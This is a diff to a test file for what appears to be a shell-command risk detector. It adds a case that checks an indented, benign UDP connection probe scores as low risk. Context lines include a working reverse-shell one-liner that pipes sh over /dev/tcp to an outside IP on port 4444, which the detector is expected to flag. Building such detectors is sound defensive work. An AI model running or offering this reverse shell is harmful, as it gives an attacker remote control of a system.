@@ -87,6 +87,9 @@ describe("a socket opened on a spare descriptor serves a shell only when somethi
     const probe = "exec 3<>/dev/udp/debian.org/80 || return 1\nexec 3<&- ; exec 3>&-";
     expect(unusedSocket("exec 3<>/dev/udp/debian.org/80 || return 1", probe)).toBe(true);
     expect(bash(probe)).toBeLessThan(0.5);
+    // the same probe indented in a function body, with a comment (as msmtpq's connection test has it)
+    const indented = `probe() {\n  if true ; then\n    exec 3<>/dev/udp/debian.org/80 || return 1   # open socket\n    exec 3<&- ; exec 3>&-\n  fi\n}`;
+    expect(bash(indented)).toBeLessThan(0.5);
     const shell = "exec 3<>/dev/tcp/198.51.100.9/4444; sh <&3 >&3 2>&3";
     expect(unusedSocket("exec 3<>/dev/tcp/198.51.100.9/4444", shell)).toBe(false);
     expect(bash(shell)).toBeGreaterThanOrEqual(0.8);
